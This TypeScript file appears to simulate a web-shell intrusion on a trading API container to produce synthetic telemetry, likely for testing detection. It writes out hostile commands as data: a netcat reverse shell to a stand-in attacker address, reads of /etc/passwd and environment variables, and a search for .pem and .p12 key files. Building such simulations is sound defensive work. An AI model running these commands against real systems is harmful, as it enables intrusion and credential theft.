import { containersOf } from '../cluster/cluster.ts';
import { run } from '../activity/activity.ts';
import { openSensitiveFile } from '../activity/file.ts';
import { connect } from '../activity/network.ts';
import type { Scene } from '../scene.ts';

const attacker = '203.0.113.77';

/** A hole in the trading api: a shell from the web, a look round, credentials read, a shell called home. */
export function webShell(scene: Scene): void {
  const { main } = scene.random.pick(containersOf(scene.cluster, 'trading-api-deployment'));
  lookRound(scene, main);
  scene.wait(4_000, 9_000);
  readCredentials(scene, main);
  scene.wait(5_000, 10_000);
  const shell = scene.exec(main, { binary: '/bin/sh', arguments: `-c "nc ${attacker} 4444 -e /bin/sh"` });
  scene.wait(1, 3);
  const nc = scene.replace(shell, { binary: '/usr/bin/nc', arguments: `${attacker} 4444 -e /bin/sh` });
  scene.wait(3, 9);
  connect(scene, nc, { address: attacker, port: 4444 }, 'egress');
  scene.wait(30, 80);
  const remote = scene.replace(nc, { binary: '/bin/sh' });
  for (const [binary, text] of orders) {
    scene.wait(1_500, 4_000);
    run(scene, remote, text === '' ? { binary } : { binary, arguments: text });
  }
  scene.wait(2_000, 5_000);
  scene.exit(remote);
}

type Service = Parameters<Scene['exec']>[0];

function lookRound(scene: Scene, main: Service): void {
  for (const order of ['id', 'uname -a', 'ls -la /app']) {
    const shell = scene.exec(main, {
      binary: '/bin/sh',
      arguments: order.includes(' ') ? `-c "${order}"` : `-c ${order}`,
    });
    scene.wait(1, 3);
    const [program = order, ...rest] = order.split(' ');
    const binary = program === 'ls' ? '/bin/ls' : `/usr/bin/${program}`;
    run(scene, shell, rest.length === 0 ? { binary } : { binary, arguments: rest.join(' ') }, 1, 6);
    scene.wait(0.2, 1);
    scene.exit(shell);
    scene.wait(1_200, 3_000);
  }
}

function readCredentials(scene: Scene, main: Service): void {
  const shell = scene.exec(main, { binary: '/bin/sh', arguments: '-c "cat /etc/passwd; env"' });
  scene.wait(1, 3);
  const cat = scene.exec(shell, { binary: '/bin/cat', arguments: '/etc/passwd' });
  scene.wait(0.5, 2);
  openSensitiveFile(scene, cat, '/etc/passwd');
  scene.wait(0.5, 2);
  scene.exit(cat);
  scene.wait(0.5, 2);
  run(scene, shell, { binary: '/usr/bin/env' }, 1, 4);
  scene.wait(0.5, 2);
  scene.exit(shell);
}

const orders: readonly (readonly [string, string])[] = [
  ['/usr/bin/whoami', ''],
  ['/bin/ps', 'aux'],
  ['/usr/bin/find', '/app /etc -name "*.p12" -o -name "*.pem"'],
];
